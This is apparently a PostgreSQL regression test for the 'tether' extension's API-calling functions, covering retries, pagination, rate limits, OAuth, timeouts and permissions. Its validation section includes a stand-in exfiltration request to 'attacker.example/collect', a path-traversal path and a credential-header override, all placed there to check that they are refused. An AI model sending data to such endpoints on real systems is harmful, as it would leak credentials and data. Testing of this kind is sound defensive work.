-- tether.request and tether.request_pages: any call to a server's API from SQL, through the server's
-- connector settings (base URL, credentials, retries, rate limit, body encoding, error messages).

-- Set-up: the shared fixture (the fake provider reset, servers hs and api).
\i tests/regress/fixtures/base.sql
\getenv fake_url FAKE_URL
\set bc_url :fake_url/stores/abc123/v3
\set shop_url :fake_url/admin/api/2024-01
\set token_url :fake_url/oauth/v1/token
\getenv token TETHER_TEST_TOKEN
\getenv client_secret TETHER_TEST_CLIENT_SECRET
\getenv refresh_token TETHER_TEST_REFRESH_TOKEN
CREATE SERVER bcr FOREIGN DATA WRAPPER tether
    OPTIONS (connector 'bigcommerce', base_url :'bc_url', store_hash 'abc123');
CREATE USER MAPPING FOR CURRENT_USER SERVER bcr OPTIONS (api_key :'token');
CREATE USER MAPPING FOR CURRENT_USER SERVER api;
SELECT * FROM fake.reset;
-- The error message of a statement, with the fake provider's address (its port changes) masked.
CREATE FUNCTION fake.error_of(statement text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE statement;
    RETURN 'no error';
EXCEPTION WHEN OTHERS THEN
    RETURN regexp_replace(SQLERRM, '//(127\.0\.0\.1|localhost):[0-9]+', '//\1:PORT', 'g');
END
$$;

-- A GET with query parameters: the body comes back as jsonb, sent with the server's credentials.
SELECT jsonb_array_length(r -> 'data') AS records, r #>> '{meta,pagination,total}' AS total
FROM tether.request('bcr', 'GET', '/customers', '{"limit": 3}') r;
SELECT method, path, query, headers ->> 'x-auth-token' = :'token' AS token_sent FROM fake.requests;

-- A POST with a JSON body; the provider's answer is the result.
SELECT r #>> '{data,0,email}' AS email, r #>> '{data,0,first_name}' AS first_name
FROM tether.request('bcr', 'POST', '/customers',
                    body => '[{"email": "req1@example.com", "first_name": "Req", "last_name": "One"}]') r;
-- An answer without a body is NULL.
SELECT tether.request('bcr', 'DELETE', '/customers', '{"id:in": 251}') IS NULL AS no_body;

-- A refused call fails like a refused foreign-table write: the provider's message, HTTP status in DETAIL.
SELECT tether.request('bcr', 'POST', '/customers', body => '[{"email": "not-an-email"}]');
SELECT fake.sqlstate_of($$SELECT tether.request('bcr', 'POST', '/customers', body => '[{"email": "x"}]')$$);
SELECT fake.sqlstate_of($$SELECT tether.request('bcr', 'GET', '/catalog/products/99999')$$);

-- raw => true returns status, headers and body for any status, so PL/pgSQL can branch on it.
SELECT r -> 'status' AS status, r #>> '{body,title}' AS title, r #>> '{headers,content-type}' AS content_type
FROM tether.request('bcr', 'POST', '/customers', body => '[{"email": "x"}]', raw => true) r;
SELECT r -> 'status' AS status, r #>> '{body,data,name}' AS name
FROM tether.request('bcr', 'GET', '/catalog/products/1', raw => true) r;
SELECT tether.request('bcr', 'GET', '/catalog/products/99999', raw => true) -> 'status' AS status;

-- Retries follow the rules of writes: a 429 is waited out and sent again, for any method...
SELECT * FROM fake.reset;
SELECT fake.inject('status=429&retry_after=0&times=1&path_prefix=/stores');
SELECT jsonb_array_length(tether.request('bcr', 'GET', '/customers', '{"limit": 1}') -> 'data') AS records;
SELECT requests FROM fake.stats;
-- ...a 5xx answer to a POST is not sent again without an idempotency key (the outcome is unknown)...
SELECT * FROM fake.reset;
SELECT fake.inject('status=500&times=1&path_prefix=/stores');
SELECT tether.request('bcr', 'POST', '/customers',
                      body => '[{"email": "twice@example.com", "first_name": "T", "last_name": "W"}]');
SELECT requests FROM fake.stats;
-- ...and in raw mode that 500 is the answer.
SELECT fake.inject('status=500&times=1&path_prefix=/stores');
SELECT tether.request('bcr', 'POST', '/customers', body => '[{"email": "twice@example.com"}]', raw => true)
       -> 'status' AS status;
-- With the connector's idempotency header (Stripe), a POST is resent with the same key; a key the
-- caller gives is the one sent.
\set stripe_url :fake_url/v1
CREATE SERVER str FOREIGN DATA WRAPPER tether OPTIONS (connector 'stripe', base_url :'stripe_url');
CREATE USER MAPPING FOR CURRENT_USER SERVER str OPTIONS (token :'token');
SELECT * FROM fake.reset;
SELECT fake.inject('status=500&times=1&path_prefix=/v1/customers');
SELECT r ->> 'object' AS object, r ->> 'email' AS email, r #>> '{metadata,source_id}' AS source_id
FROM tether.request('str', 'POST', '/customers',
                    body => '{"email": "idem@example.com", "metadata": {"source_id": "42"}}',
                    headers => '{"Idempotency-Key": "import-42"}') r;
SELECT method, path, body, idempotency_key FROM fake.requests;

-- Calls made per row share the connection and the server's rate limit.
SELECT * FROM fake.reset;
SELECT g AS id, tether.request('bcr', 'GET', '/customers', jsonb_build_object('id:in', g)) #>> '{data,0,email}' AS email
FROM generate_series(1, 5) g;
SELECT requests, connections FROM fake.stats;
-- Shopify's bucket holds 40 calls: 45 calls in a row are paced to stay under it, none is refused.
CREATE SERVER shr FOREIGN DATA WRAPPER tether OPTIONS (connector 'shopify', base_url :'shop_url', shop 'tether-test');
CREATE USER MAPPING FOR CURRENT_USER SERVER shr OPTIONS (api_key :'token');
SELECT * FROM fake.reset;
SELECT count(*) AS calls, count(r) FILTER (WHERE (r ->> 'status')::int = 200) AS answered_200
FROM (SELECT tether.request('shr', 'GET', '/customers/count.json', raw => true) r FROM generate_series(1, 45)) s;
-- OAuth2: one token for every call of the statement.
CREATE SERVER hs_req FOREIGN DATA WRAPPER tether OPTIONS (
    connector 'hubspot', base_url :'fake_url', auth 'oauth2', token_url :'token_url');
CREATE USER MAPPING FOR CURRENT_USER SERVER hs_req
    OPTIONS (client_id 'test-client', client_secret :'client_secret', refresh_token :'refresh_token');
SELECT * FROM fake.reset;
SELECT g AS id, tether.request('hs_req', 'GET', '/crm/v3/objects/deals/' || g) #>> '{properties,dealname}' AS dealname
FROM generate_series(1, 3) g;
SELECT count(*) FILTER (WHERE path = '/oauth/v1/token') AS token_requests,
       count(*) FILTER (WHERE path LIKE '/crm/%' AND headers ->> 'authorization' LIKE 'Bearer %') AS api_requests
FROM fake.requests;

-- A call to a provider that never answers is stopped by statement_timeout (the wait checks for
-- interrupts), and the same read_timeout as foreign tables applies.
SET statement_timeout = '500ms';
SELECT tether.request('api', 'GET', '/faults/stall');
RESET statement_timeout;
ALTER SERVER api OPTIONS (ADD read_timeout '300ms', max_retries '0');
SELECT tether.request('api', 'GET', '/faults/stall');
ALTER SERVER api OPTIONS (DROP read_timeout, DROP max_retries);

-- request_pages follows the connector's pagination for the object at that path: 250 customers in
-- pages of 100 are three requests.
SELECT * FROM fake.reset;
SELECT count(*) AS customers, count(DISTINCT r ->> 'id') AS distinct_ids, min((r ->> 'id')::int), max((r ->> 'id')::int)
FROM tether.request_pages('bcr', 'GET', '/customers', '{"limit": 100}') r;
SELECT query FROM fake.requests ORDER BY query;
-- Rows stream: read in the select list, a LIMIT stops the paging (pages of 2, at most one fetched ahead).
SELECT * FROM fake.reset;
SELECT tether.request_pages('bcr', 'GET', '/customers', '{"limit": 2}') ->> 'email' AS email LIMIT 5;
SELECT (by_path ->> '/stores/abc123/v3/customers')::int BETWEEN 3 AND 4 AS stopped_early FROM fake.stats;
-- max_pages bounds the paging wherever the function is called.
SELECT * FROM fake.reset;
SELECT count(*) FROM tether.request_pages('bcr', 'GET', '/customers', '{"limit": 2}', max_pages => 3);
SELECT requests FROM fake.stats;
-- Shopify pages through Link headers, Stripe by the last id, HubSpot by cursor.
SELECT count(*) AS shopify_customers FROM tether.request_pages('shr', 'GET', '/customers.json', '{"limit": 100}');
SELECT count(*) AS stripe_customers FROM tether.request_pages('str', 'GET', '/customers', '{"limit": 100}');
SELECT count(*) AS hubspot_deals FROM tether.request_pages('hs_req', 'GET', '/crm/v3/objects/deals', '{"limit": 100}');
-- A pagination given inline, for an endpoint no connector object covers (the fake's generic items).
SELECT * FROM fake.reset;
SELECT count(*) AS items, count(DISTINCT r ->> 'id') AS distinct_ids
FROM tether.request_pages('api', 'GET', '/rest/page/items', '{"per_page": 7}',
                          pagination => '{"style": "page", "param": "page"}', records_path => '/data') r;
SELECT count(*) AS items FROM tether.request_pages('api', 'GET', '/rest/link/items', '{"limit": 10}',
                                                    pagination => '"link_header"');
SELECT requests > 2 AS paged FROM fake.stats;
-- Loading an endpoint into a table: jsonb_to_record types the fields.
CREATE TABLE staged_products AS
SELECT p.* FROM tether.request_pages('bcr', 'GET', '/catalog/products') r
CROSS JOIN LATERAL jsonb_to_record(r) AS p(id int, name text, price numeric, inventory_level int);
SELECT count(*), sum(inventory_level) > 0 AS stocked FROM staged_products;
SELECT * FROM staged_products ORDER BY id LIMIT 2;

-- Arguments are checked before anything is sent.
SELECT * FROM fake.reset;
SELECT tether.request('bcr', 'GET', '/../other/store');
SELECT tether.request('bcr', 'GET', 'customers');
SELECT fake.error_of($$SELECT tether.request('bcr', 'GET', 'https://attacker.example/collect')$$);
SELECT fake.error_of(format('SELECT tether.request(%L, %L, %L)', 'bcr', 'GET', :'fake_url' || '/stores/other/v3/customers'));
SELECT tether.request('bcr', 'TRACE', '/customers');
SELECT tether.request('bcr', 'GET', '/customers', body => '{"a": 1}');
SELECT tether.request('bcr', 'GET', '/customers', '{"filter": {"a": 1}}');
SELECT tether.request('bcr', 'GET', '/customers', headers => '{"X-Auth-Token": "someone-else"}');
SELECT tether.request('str', 'POST', '/customers', body => '[1, 2]');
SELECT * FROM tether.request_pages('bcr', 'GET', '/customers/attributes');
SELECT * FROM tether.request_pages('bcr', 'GET', '/customers', pagination => '{"style": "sideways"}');
SELECT * FROM tether.request_pages('bcr', 'GET', '/customers', max_pages => 0);
SELECT tether.request('nope', 'GET', '/');
SELECT tether.request(NULL, 'GET', '/');
SELECT requests FROM fake.stats;
-- An absolute URL on the server's own base URL is a path; other hosts only when the server lists them.
SELECT jsonb_array_length(tether.request('bcr', 'GET', :'bc_url' || '/customers?limit=2') -> 'data') AS records;
ALTER SERVER bcr OPTIONS (ADD allowed_hosts 'https://x');
SELECT replace(:'fake_url', '127.0.0.1', 'localhost') AS other_url,
       replace(split_part(:'fake_url', '//', 2), '127.0.0.1', 'localhost') AS other_host \gset
SELECT fake.error_of(format('SELECT tether.request(%L, %L, %L)', 'bcr', 'GET', :'other_url' || '/stores/abc123/v3/customers'));
ALTER SERVER bcr OPTIONS (ADD allowed_hosts :'other_host');
SELECT tether.request('bcr', 'GET', :'other_url' || '/stores/abc123/v3/customers?limit=1') #>> '{data,0,email}' AS email;
SELECT headers ->> 'host' LIKE 'localhost:%' AS sent_to_the_allowed_host FROM fake.requests ORDER BY 1 DESC LIMIT 1;
ALTER SERVER bcr OPTIONS (DROP allowed_hosts);

-- Only roles with USAGE on the server and a user mapping can call.
CREATE ROLE tether_caller;
GRANT USAGE ON SCHEMA tether, fake TO tether_caller;
SET ROLE tether_caller;
SELECT tether.request('bcr', 'GET', '/customers');
RESET ROLE;
GRANT USAGE ON FOREIGN SERVER bcr TO tether_caller;
SET ROLE tether_caller;
SELECT tether.request('bcr', 'GET', '/customers');
SELECT fake.sqlstate_of($$SELECT tether.request('bcr', 'GET', '/customers')$$);
RESET ROLE;
CREATE USER MAPPING FOR tether_caller SERVER bcr OPTIONS (api_key :'token');
SET ROLE tether_caller;
SELECT jsonb_array_length(tether.request('bcr', 'GET', '/customers', '{"limit": 2}') -> 'data') AS records;
SELECT count(*) FROM tether.request_pages('bcr', 'GET', '/customers', '{"limit": 2}', max_pages => 2);
RESET ROLE;
DROP USER MAPPING FOR tether_caller SERVER bcr;
REVOKE USAGE ON FOREIGN SERVER bcr FROM tether_caller;
REVOKE USAGE ON SCHEMA tether, fake FROM tether_caller;
DROP ROLE tether_caller;
SELECT requests FROM fake.stats;

-- Clean-up: what the scenario created.
SET client_min_messages = warning;
DROP TABLE staged_products;
DROP FUNCTION fake.error_of(text);
DROP USER MAPPING FOR CURRENT_USER SERVER api;
DROP SERVER bcr, str, shr, hs_req CASCADE;
CALL fake.check_clean();
